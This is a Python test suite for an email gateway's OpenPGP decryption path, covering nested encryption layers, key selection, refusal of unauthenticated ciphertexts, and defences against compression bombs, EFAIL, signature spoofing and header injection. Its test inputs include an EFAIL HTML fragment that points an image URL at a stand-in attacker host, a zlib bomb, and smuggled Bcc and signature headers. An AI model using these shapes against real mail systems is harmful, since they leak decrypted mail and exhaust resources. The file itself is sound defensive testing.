"""The open path with OpenPGP: layers, keys of the right reader only, EFAIL shapes, signature spoofing, mangled mail."""

from collections.abc import Sequence
from dataclasses import replace

import pytest

from cms_samples import encrypted_entity as smime_encrypted
from cms_samples import signed_entity as smime_signed
from mailseal.mail.address import Address
from mailseal.mail.envelope import Origin
from mailseal.mail.message import Message
from mailseal.mail.mime import parse
from mailseal.methods import METHODS
from mailseal.methods.layer import Opening
from mailseal.openpgp.algorithms import CipherId, CompressionId
from mailseal.openpgp.certificate import StoredPgpCertificate
from mailseal.openpgp.form import EncryptionForm as PgpForm
from mailseal.openpgp.form import Reader
from mailseal.openpgp.inner import write_compressed, write_literal
from mailseal.openpgp.message import encrypt_message
from mailseal.openpgp.packet import Tag, read_packets, write_packet
from mailseal.openpgp.work import Work
from mailseal.pipeline import process
from mailseal.pipeline.open_path import held_by, open_mail
from mailseal.policy.model import Fate, MethodName, Party, Treatment
from mailseal.policy.reason import ReasonCode
from mailseal.policy.settings import Settings
from mailseal.smime.form import EncryptionForm, SignatureForm
from mailseal.smime.sign import SigningIdentity
from pgp_incoming import ANNA, BOB, DORA, HEAD, codes, header, receive, stage
from pgp_mails import (
    TEXT,
    armored,
    as_mail,
    encrypted_mail,
    literal_message,
    multipart,
    sealed,
    signed_mail,
    text,
)
from pki import NOW
from stage import (
    PARTNER,
    PGP_PARTNER,
    PGP_READER,
    PGP_SENDER,
    READER,
    envelope,
    lasting_key,
)


def test_signed_and_encrypted_in_one_is_opened_and_said_to_be_by_the_sender():
    outcome, octets = receive(HEAD + encrypted_mail(TEXT, PGP_READER, by=PGP_PARTNER))
    assert outcome.treatment is Treatment.OPENED
    assert header(octets, "x-mailseal-decrypted") == "yes"
    assert header(octets, "x-mailseal-signed-by-sender") == "yes"
    layer = header(octets, "x-mailseal-layer-1")
    assert layer.startswith("kind=pgp-encrypted; ok=yes; algorithm=aes256-cfb; integrity=authenticated; key=")
    assert PGP_READER.fingerprint in layer
    assert header(octets, "x-mailseal-layer-2").startswith("kind=pgp-signed; ok=yes; algorithm=ed25519-sha256")
    signer = header(octets, "x-mailseal-layer-2-signer-1")
    assert signer.startswith(f"verified=yes; trusted=yes; matches-from=yes; fingerprint={PGP_PARTNER.fingerprint}")
    assert octets.endswith(TEXT)
    assert ("layer-2", "pgp-signed ed25519 sha256") in outcome.details
    assert ("signer", "bob@outside.example good") in outcome.details


def test_the_tags_of_a_mail_by_openpgp_are_those_of_any_mail():
    raw = HEAD + encrypted_mail(TEXT, PGP_READER, by=PGP_PARTNER)
    _, octets = receive(raw, subject_tags=True)
    assert header(octets, "subject") == "Hello [decrypted] [signed by bob@outside.example]"


def test_a_signed_mail_stays_as_it_is_and_is_reported():
    raw = HEAD + signed_mail(by=PGP_PARTNER)
    _, octets = receive(raw)
    assert header(octets, "x-mailseal-signed-by-sender") == "yes"
    assert octets.endswith(raw[len(HEAD) :])
    _, octets = receive(raw, remove_signature=True)
    assert octets.endswith(TEXT)
    assert b"pgp-signature" not in octets


def test_layers_within_layers_of_both_kinds():
    def of_smime(entity: bytes) -> bytes:
        return smime_signed(entity, SigningIdentity(PARTNER.certificate, PARTNER.key), SignatureForm(), at=NOW)

    def to_smime(entity: bytes) -> bytes:
        return smime_encrypted([entity], [READER.certificate], EncryptionForm())

    pgp = encrypted_mail(TEXT, PGP_READER, by=PGP_PARTNER)
    for entity, kinds in (
        (to_smime(pgp), ["smime-encrypted", "pgp-encrypted", "pgp-signed"]),
        (of_smime(pgp), ["smime-signed", "pgp-encrypted", "pgp-signed"]),
        (encrypted_mail(of_smime(TEXT), PGP_READER), ["pgp-encrypted", "smime-signed"]),
        (
            encrypted_mail(to_smime(TEXT), PGP_READER, by=PGP_PARTNER),
            ["pgp-encrypted", "pgp-signed", "smime-encrypted"],
        ),
        (signed_mail(encrypted_mail(TEXT, PGP_READER), by=PGP_PARTNER), ["pgp-signed", "pgp-encrypted"]),
        (encrypted_mail(signed_mail(by=PGP_PARTNER), PGP_READER), ["pgp-encrypted", "pgp-signed"]),
    ):
        _, octets = receive(HEAD + entity)
        found = [header(octets, f"x-mailseal-layer-{number}") for number in range(1, len(kinds) + 1)]
        assert [one.partition(";")[0] for one in found] == [f"kind={kind}" for kind in kinds]
        assert all("ok=yes" in one and "whole-message=yes" in one for one in found)
        assert header(octets, "x-mailseal-signed-by-sender") == "yes"
        assert b"The canary sings." in octets


def test_hidden_recipients_are_tried_with_every_key_of_the_reader():
    raw = HEAD + encrypted_mail(TEXT, PGP_SENDER, PGP_READER, hidden=True)
    other = lasting_key("Dora <dora@inside.example>")
    _, octets = receive(raw, on=stage().own_pgp(other))
    assert octets.endswith(TEXT)


def test_a_copy_is_opened_only_with_keys_of_its_reader():
    raw = HEAD + encrypted_mail(TEXT, PGP_READER)
    on = stage().own_pgp(PGP_SENDER)
    outcome, octets = receive(raw, ANNA, DORA, on=on)
    assert b"canary" not in octets
    assert codes(outcome) == {ReasonCode.KEY_NOT_FOUND}
    assert outcome.treatment is Treatment.PASSED
    assert octets.endswith(raw[len(HEAD) :])
    assert [[str(one.address) for one in sent.recipients] for sent in on.sent] == [[ANNA], [DORA]]
    assert b"The canary sings." in b"".join(on.sent[1].chunks)


def test_decryption_can_be_switched_off():
    outcome, octets = receive(HEAD + encrypted_mail(TEXT, PGP_READER), pgp=False)
    assert b"canary" not in octets
    assert codes(outcome) == {ReasonCode.DECRYPTION_OFF}


def test_a_secret_key_that_is_not_at_hand_defers():
    on = stage()
    on.keys.clear()
    (outcome,) = process(
        envelope(DORA, sender=BOB, origin=Origin.OUTSIDE),
        Message(HEAD + encrypted_mail(TEXT, PGP_READER)),
        on.gateway(),
    )
    assert outcome.fate is Fate.DEFERRED
    assert not on.sent


def test_a_key_whose_secret_is_not_held_is_not_tried():
    on = stage()
    other = lasting_key("Dora <dora@inside.example>")
    signing, encryption = (public.fingerprint for public, _ in other.keys)
    on.pgp.stored.append(replace(other.stored(has_key=True), keys=frozenset({signing})))
    assert encryption in {one.fingerprint for one in other.certificate.components}
    for to, hidden, reason in (
        ((other,), False, ReasonCode.KEY_NOT_FOUND),
        ((other, PGP_READER), True, ReasonCode.OPENED),
    ):
        outcome, _ = receive(HEAD + encrypted_mail(TEXT, *to, hidden=hidden), on=on)
        assert codes(outcome) == {reason}


def test_a_broken_certificate_keeps_the_mail_from_its_reader_only():
    on = stage().own_pgp(PGP_SENDER)
    known = on.pgp.with_key_of

    def with_key_of(address: Address) -> Sequence[StoredPgpCertificate]:
        if str(address) == ANNA:
            raise RuntimeError("broken")
        return known(address)

    on.pgp.with_key_of = with_key_of
    to = envelope(ANNA, DORA, sender=BOB, origin=Origin.OUTSIDE)
    anna, dora = process(to, Message(HEAD + encrypted_mail(TEXT, PGP_READER)), on.gateway())
    assert (anna.fate, dora.treatment) == (Fate.DEFERRED, Treatment.OPENED)


# What is refused, and how it is told


def mdc_off(packets: bytes) -> bytes:
    """The same session keys before data without integrity (tag 9)."""
    kept = [one for one in read_packets(packets) if one.tag == Tag.PKESK]
    return b"".join(write_packet(one.tag, one.octets) for one in kept) + write_packet(Tag.SED, bytes(80))


def damaged(packets: bytes) -> bytes:
    return packets[:-5] + bytes((packets[-5] ^ 1,)) + packets[-4:]


BOMB = b"".join(write_compressed(write_literal([bytes(5_000_000)]), CompressionId.ZLIB))
TWO = literal_message() + literal_message(TEXT.replace(b"canary", b"cuckoo"))
NESTED = sealed(literal_message(), PGP_READER)


@pytest.mark.parametrize(
    ("message", "reason"),
    [
        (mdc_off(sealed(literal_message(), PGP_READER)), ReasonCode.NO_INTEGRITY),
        (damaged(sealed(literal_message(), PGP_READER)), ReasonCode.DECRYPTION_FAILED),
        (sealed(literal_message(), PGP_READER)[:-30], ReasonCode.MALFORMED),
        (sealed(TWO, PGP_READER), ReasonCode.DECRYPTION_FAILED),
        (sealed(literal_message() + NESTED, PGP_READER), ReasonCode.DECRYPTION_FAILED),
        (sealed(literal_message(b"no header"), PGP_READER), ReasonCode.DECRYPTION_FAILED),
        (sealed(literal_message(b"Milk: 2\r\nEggs: 6\r\n\r\nPlease.\r\n"), PGP_READER), ReasonCode.DECRYPTION_FAILED),
        (sealed(literal_message(b"Note: one line\r\n"), PGP_READER), ReasonCode.DECRYPTION_FAILED),
        (
            sealed(literal_message(b"Content-Type: a/b\r\nContent-Type: c/d\r\n\r\n"), PGP_READER),
            ReasonCode.DECRYPTION_FAILED,
        ),
        (sealed(literal_message(), PGP_SENDER), ReasonCode.KEY_NOT_FOUND),
        (NESTED + NESTED, ReasonCode.MALFORMED),
        (literal_message(), ReasonCode.MALFORMED),
    ],
)
def test_what_is_not_opened_is_delivered_as_it_came_with_the_reason(message, reason):
    raw = HEAD + as_mail(message)
    outcome, octets = receive(raw)
    assert octets.endswith(raw[len(HEAD) :])
    assert codes(outcome) == {reason}
    assert header(octets, "x-mailseal-decrypted") == "no"
    assert f"reason={reason}" in header(octets, "x-mailseal-layer-1")
    assert ("integrity=none" in header(octets, "x-mailseal-layer-1")) is (reason is ReasonCode.NO_INTEGRITY)


def test_a_weak_cipher_is_opened_and_told():
    reader, form = Reader(PGP_READER.keys[-1][0]), PgpForm(cipher=CipherId.TRIPLE_DES)
    outcome, octets = receive(HEAD + as_mail(b"".join(encrypt_message([literal_message()], [reader], form))))
    assert octets.endswith(TEXT)
    assert codes(outcome) == {ReasonCode.OPENED, ReasonCode.ENCRYPTION_WEAK}
    assert "algorithm=3des-cfb" in header(octets, "x-mailseal-layer-1")


def opening(**limits: object) -> Opening:
    on, address = stage(PGP_PARTNER), Address.parse(DORA)
    return Opening(
        Party(address, True, Settings()),
        held_by(on.gateway(), address),
        on,
        on.pgp,
        NOW,
        (Address.parse(BOB),),
        **limits,
    )


def test_a_bomb_is_not_blown_up():
    root = parse(HEAD + as_mail(sealed(BOMB, PGP_READER))).root
    (layer,) = METHODS[MethodName.PGP].peel(root, "pgp-encrypted", opening(max_bytes=1_000_000), 0).layers
    assert layer.reason.code is ReasonCode.TOO_LARGE


def test_how_much_may_be_blown_up_goes_by_the_size_of_the_mail(monkeypatch):
    monkeypatch.setattr("mailseal.pipeline.open_path.ALWAYS_OPENED_BYTES", 100_000)
    small, large = (
        b"".join(write_compressed(write_literal([TEXT, b"\r\n" * lines]), CompressionId.ZLIB))
        for lines in (40_000, 60_000)
    )
    preamble = b"x" * 78 + b"\r\n"
    for content, filling, reason in (
        (small, b"", ReasonCode.OPENED),
        (large, b"", ReasonCode.TOO_LARGE),
        (large, preamble * 30, ReasonCode.OPENED),
    ):
        raw = HEAD + as_mail(sealed(content, PGP_READER)).replace(b"This is", filling + b"This is")
        assert len(raw) < 4000
        assert codes(receive(raw)[0]) == {reason}


def test_what_is_blown_up_is_counted_over_all_layers():
    entity = TEXT
    for _ in range(3):
        compressed = write_compressed(write_literal([entity, b"\r\n" * 20_000]), CompressionId.ZLIB)
        entity = as_mail(sealed(b"".join(compressed), PGP_READER))
    for max_bytes, last in ((130_000, None), (100_000, ReasonCode.TOO_LARGE)):
        found = open_mail(parse(HEAD + entity).root, opening(max_bytes=max_bytes))
        assert [layer.ok for layer in found.layers] == [True, True, last is None]
        assert (found.layers[-1].reason and found.layers[-1].reason.code) is last


def test_what_is_decrypted_and_checked_is_counted_over_all_layers():
    contents = [TEXT]
    for _ in range(3):
        contents.append(signed_mail(contents[-1], by=PGP_PARTNER))
    root = parse(HEAD + encrypted_mail(contents[-1], PGP_READER, by=PGP_PARTNER)).root
    total = sum(map(len, contents))
    for octets, last in ((total, None), (total - 1, ReasonCode.TOO_LARGE)):
        found = open_mail(root, opening(work=Work(digested_octets=octets)))
        assert [layer.reason and layer.reason.code for layer in found.layers] == [None] * 4 + [last]
        assert found.signed_by_sender
    twice = HEAD + encrypted_mail(encrypted_mail(TEXT, PGP_READER), PGP_READER)
    for attempts, oks in ((2, [True, True]), (1, [True, False])):
        found = open_mail(parse(twice).root, opening(work=Work(attempts=attempts)))
        assert [layer.ok for layer in found.layers] == oks


def test_damaged_ciphertexts_all_look_the_same():
    packets = sealed(literal_message(), PGP_READER)
    seen = set()
    for cut in range(len(packets) - 1, len(packets) - 120, -17):
        bad = packets[:cut] + bytes((packets[cut] ^ 0x55,)) + packets[cut + 1 :]
        outcome, octets = receive(HEAD + as_mail(bad))
        seen.add((header(octets, "x-mailseal-layer-1"), outcome.reply, outcome.reasons))
    assert len(seen) == 1


# EFAIL and its like


def test_efail_a_ciphertext_beside_other_parts_stays_shut():
    html = text(b"<img src='http://eve.example/", b"text/html")
    inner = encrypted_mail(TEXT, PGP_READER)
    for parts in ((html, inner, html), (inner, text(b"Sent by a list.\r\n")), (text(b"Look:\r\n"), inner)):
        outcome, octets = receive(HEAD + multipart(b"mixed", *parts))
        assert b"canary" not in octets
        assert codes(outcome) == {ReasonCode.NOT_WHOLE_MESSAGE}
        assert outcome.treatment is Treatment.PASSED


def test_a_ciphertext_inside_decrypted_content_beside_other_parts_stays_shut():
    covert = multipart(b"mixed", text(b"Please answer.\r\n"), encrypted_mail(TEXT, PGP_READER))
    outcome, octets = receive(HEAD + encrypted_mail(covert, PGP_READER, by=PGP_PARTNER))
    assert b"Please answer." in octets
    assert b"canary" not in octets
    assert ReasonCode.NOT_WHOLE_MESSAGE in codes(outcome)


def test_a_signed_part_beside_others_is_never_the_senders_word():
    outcome, octets = receive(HEAD + multipart(b"mixed", signed_mail(by=PGP_PARTNER), text(b"Pay at once.\r\n")))
    assert header(octets, "x-mailseal-signed-by-sender") == "no"
    assert "whole-message=no" in header(octets, "x-mailseal-layer-1")
    assert ReasonCode.NOT_WHOLE_MESSAGE in codes(outcome)


def test_headers_inside_the_protection_cannot_replace_those_outside():
    inner = b"Subject: other\r\nBcc: spy@elsewhere.example\r\nX-Mailseal-Signed-By-Sender: yes\r\n" + TEXT
    _, octets = receive(HEAD + encrypted_mail(inner, PGP_READER))
    assert octets.count(b"Subject:") == 1
    assert b"spy@" not in octets
    assert b"X-Mailseal-Signed-By-Sender: yes" not in octets


# Mail that servers have mangled

VERSION = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"


def data(message: bytes, kind: bytes = b'application/octet-stream; name="encrypted.asc"') -> bytes:
    return text(armored(message), kind)


def test_mail_that_exchange_has_mangled_is_opened():
    message = sealed(literal_message(by=PGP_PARTNER), PGP_READER)
    for entity in (
        multipart(b"mixed", text(b"\r\n"), VERSION, data(message)),
        multipart(b"mixed", text(b"Version: 1\r\n", b"application/octet-stream"), data(message)),
        data(message),
    ):
        _, octets = receive(HEAD + entity)
        assert header(octets, "x-mailseal-signed-by-sender") == "yes"
        assert octets.endswith(TEXT)


def test_a_mail_that_is_one_encrypted_file_of_another_kind_stays_as_it_is():
    raw = HEAD + data(
        sealed(literal_message(b"Milk: 2\r\nEggs: 6\r\n"), PGP_READER), b'application/octet-stream; name="a.asc"'
    )
    _, octets = receive(raw)
    assert octets.endswith(raw[len(HEAD) :])
    _, octets = receive(HEAD + data(sealed(literal_message(b"\r\nThe canary sings.\r\n"), PGP_READER)))
    assert octets.endswith(b"\r\nThe canary sings.\r\n")


def test_mangled_mail_with_words_of_others_beside_it_is_not():
    message = sealed(literal_message(by=PGP_PARTNER), PGP_READER)
    raw = HEAD + multipart(b"mixed", text(b"This mail came from outside.\r\n"), VERSION, data(message))
    _, octets = receive(raw)
    assert b"canary" not in octets
